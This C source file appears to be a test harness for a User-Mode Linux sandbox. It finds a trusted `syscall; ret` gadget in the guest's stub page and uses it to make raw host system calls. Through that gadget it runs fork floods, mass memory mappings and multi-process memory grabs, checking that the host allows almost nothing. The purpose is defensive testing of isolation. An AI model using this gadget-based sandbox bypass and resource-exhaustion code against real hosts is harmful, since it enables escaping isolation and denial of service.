/* A guest process under the uml engine that makes system calls of the host. The page of code by
 * which its kernel manages it is mapped in every process, and has a `syscall; ret` that the host's
 * filters take for the kernel's own. What it gets there must be next to nothing.
 *
 * usage: stub_attacks WHAT [PROCESSES]; prints a line `WHAT: N ...` and keeps what it got until it
 * is killed.
 */
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define MIB (1UL << 20)

enum { MOST_MIB = 1024, FORKS_MOST = 8000, VIEW_MIB = 100, VIEWS_MOST = 1000 };

static sigjmp_buf fault;
static unsigned long gadget;

static void on_fault(int sig)
{
    siglongjmp(fault, sig);
}

/* The page is at the top of the address space. */
static void find_gadget(void)
{
    struct sigaction act = {.sa_handler = on_fault};
    (void)sigaction(SIGSEGV, &act, NULL);
    (void)sigaction(SIGBUS, &act, NULL);
    for (unsigned long page = 0x7ffffffff000; page > 0x7fffffe00000; page -= 4096) {
        if (sigsetjmp(fault, 1))
            continue;
        const volatile unsigned char *p = (const volatile unsigned char *)page;
        for (unsigned i = 0; i < 4094; i++)
            if (p[i] == 0x0f && p[i + 1] == 0x05 && p[i + 2] == 0xc3) {
                gadget = page + i;
                return;
            }
    }
}

static long host(long nr, long a, long b, long c, long d, long e, long f)
{
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    long ret;
    /* Past the red zone, which the call would overwrite. */
    __asm__ volatile("sub $256, %%rsp; call *%[to]; add $256, %%rsp"
                     : "=a"(ret)
                     : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9), [to] "m"(gadget)
                     : "rcx", "r11", "memory", "cc");
    return ret;
}

/* Takes memory in steps that get smaller, and writes to all of it; returns bytes. */
static unsigned long take_memory(int flags)
{
    unsigned long got = 0;
    for (unsigned long step = 16 * MIB; step >= 4096; step /= 4) {
        while (got < MOST_MIB * MIB) {
            long at = host(SYS_mmap, 0, (long)step, PROT_READ | PROT_WRITE, flags, -1, 0);
            if (at <= 0)
                break;
            if (sigsetjmp(fault, 1) == 0)
                for (unsigned long i = 0; i < step; i += 4096)
                    *(volatile char *)(at + (long)i) = 1;
            got += step;
        }
    }
    return got;
}

/* In each of n processes, all at once. */
static unsigned long take_in(unsigned n, int flags)
{
    unsigned long *sum =
        mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    for (unsigned i = 0; i < n; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            __atomic_fetch_add(&sum[0], take_memory(flags), __ATOMIC_SEQ_CST);
            __atomic_fetch_add(&sum[1], 1, __ATOMIC_SEQ_CST);
            for (;;)
                pause();
        }
        /* One that the host kills has got nothing. */
        while (pid > 0 && __atomic_load_n(&sum[1], __ATOMIC_SEQ_CST) == i) {
            if (waitpid(pid, NULL, WNOHANG) == pid)
                __atomic_fetch_add(&sum[1], 1, __ATOMIC_SEQ_CST);
            usleep(1000);
        }
    }
    return sum[0];
}

static unsigned fork_all(void)
{
    unsigned n = 0;
    for (; n < FORKS_MOST; n++) {
        pid_t pid = fork();
        if (pid < 0)
            break;
        while (pid == 0)
            pause();
    }
    return n;
}

/* Maps the file of guest memory again and again: each view could have page tables of its own. */
static unsigned map_views(void)
{
    const unsigned long from = 1UL << 40, size = VIEW_MIB * MIB;
    unsigned n = 0;
    while (n < VIEWS_MOST && host(SYS_mmap, (long)(from + n * size), (long)size, PROT_READ,
                                  MAP_SHARED | MAP_FIXED, 0, 4096) > 0)
        n++;
    /* So that there is room for what this process itself needs. */
    if (n > 1)
        (void)host(SYS_munmap, (long)from, (long)size, 0, 0, 0, 0);
    return n;
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";
    unsigned n = argc > 2 ? (unsigned)atoi(argv[2]) : 1;
    find_gadget();
    if (!gadget) {
        printf("no gadget\n");
        return 2;
    }
    if (strcmp(what, "fork") == 0)
        printf("fork: %u processes\n", fork_all());
    else if (strcmp(what, "views") == 0)
        printf("views: %u MiB\n", map_views() * VIEW_MIB);
    else if (strcmp(what, "shared") == 0)
        printf("shared: %lu KiB\n", take_in(n, MAP_SHARED | MAP_ANONYMOUS) / 1024);
    else if (strcmp(what, "growing") == 0)
        printf("growing: %lu KiB\n",
               take_in(n, MAP_PRIVATE | MAP_ANONYMOUS | MAP_GROWSDOWN) / 1024);
    else if (strcmp(what, "private") == 0)
        printf("private: %lu KiB\n", take_in(n, MAP_PRIVATE | MAP_ANONYMOUS) / 1024);
    else
        return 2;
    (void)fflush(stdout);
    for (;;)
        pause();
}
